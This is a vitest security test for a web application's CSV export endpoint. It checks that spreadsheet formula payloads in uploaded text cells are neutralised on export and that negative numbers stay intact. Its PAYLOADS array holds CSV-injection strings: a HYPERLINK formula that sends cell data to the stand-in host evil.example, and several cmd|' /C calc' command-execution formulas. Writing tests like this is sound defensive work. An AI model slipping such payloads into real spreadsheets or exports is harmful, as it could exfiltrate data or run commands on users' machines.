/**
 * Breach: CSV injection through `/export`. An editor uploads a book whose text cells start with
 * spreadsheet formula characters; whoever exports it must get them back as text (a leading `'`),
 * with every number, negative ones included, exactly as stored.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../testing/server.ts';
import { AS_OF, createTeam, syntheticFiles, type Team } from './test-fixtures.ts';

let t: TestServer;
let team: Team;

beforeAll(async () => {
  t = await startTestServer();
  team = await createTeam(t, 'inj-');
});

afterAll(async () => {
  await t?.stop();
});

const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1;"x")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

function csvCell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

it('formula-like text cells come back neutralised from /export; negative numbers stay numbers', async () => {
  const files = await syntheticFiles(20, 11);
  const lines = files.positions.toString('utf8').trimEnd().split('\n');
  const header = lines[0]!.split(',');
  const branch = header.indexOf('branch');
  const rate = header.indexOf('rate');
  const rows = lines.slice(1).map((line) => line.split(','));
  // Six attack rows: the payload in a text attribute and a negative fixed rate beside it.
  PAYLOADS.forEach((payload, i) => {
    rows[i]![branch] = csvCell(payload);
    rows[i]![rate] = `-0.00${i + 1}5`;
  });
  const form = new FormData();
  form.set('name', 'Injected book');
  form.set('as_of', AS_OF);
  form.set('positions', new Blob([[lines[0], ...rows.map((r) => r.join(','))].join('\n') + '\n']), 'positions.csv');
  form.set('curves', new Blob([new Uint8Array(files.curves)]), 'curves.csv');
  const up = await t.request('POST', `/api/workspaces/${team.wid}/datasets`, { token: team.edit.token, body: form });
  expect(up.status, JSON.stringify(up.body).slice(0, 400)).toBe(201);
  const did = up.body.dataset.id;

  // Stored as sent: the page API (JSON) returns the text unchanged.
  const page = await t.request('POST', `/api/workspaces/${team.wid}/datasets/${did}/query`, { token: team.explore.token, body: { table: 'positions', startRow: 0, endRow: 6, sortModel: [{ colId: 'position_id', sort: 'asc' }] } });
  expect(page.status).toBe(200);
  expect(page.body.rows.map((r: { branch: string }) => r.branch)).toEqual(PAYLOADS);

  const attempts = await Promise.all([team.explore, team.owner].map((m) =>
    t.request('POST', `/api/workspaces/${team.wid}/datasets/${did}/export`, { token: m.token, body: { table: 'positions', sortModel: [{ colId: 'position_id', sort: 'asc' }] } })));
  for (const res of attempts) {
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const csv = res.body as string;
    const [head, ...body] = csv.split('\r\n');
    const columns = head!.split(',');
    const b = columns.indexOf('branch');
    const r = columns.indexOf('rate');
    // Fields with a CR stay quoted across the line break; read the first six records by position id.
    for (const [i, payload] of PAYLOADS.entries()) {
      const id = rows[i]![0]!;
      expect(csv).toContain(`${id},`);
      expect(csv).toContain(csvCell(`'${payload}`));
    }
    // No cell of the export begins with a formula character unless it is a number.
    const plain = body.filter((l) => l !== '' && !l.includes('"'));
    for (const line of plain) {
      const cells = line.split(',');
      for (const [k, cell] of cells.entries()) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), `column ${columns[k]}: ${cell}`).toBe(true);
      }
    }
    const rates = body.filter((l) => l.startsWith(rows[0]![0]!)).map((l) => l.split(',')[r]);
    expect(rates).toEqual(['-0.0015']);
    expect(b).toBeGreaterThan(-1);
  }
  // the stored dataset is unchanged by the exports
  const again = await t.request('POST', `/api/workspaces/${team.wid}/datasets/${did}/query`, { token: team.explore.token, body: { table: 'positions', startRow: 0, endRow: 6, sortModel: [{ colId: 'position_id', sort: 'asc' }] } });
  expect(again.body.rows.map((r: { branch: string; rate: number }) => [r.branch, r.rate])).toEqual(PAYLOADS.map((p, i) => [p, -Number(`0.00${i + 1}5`)]));
});
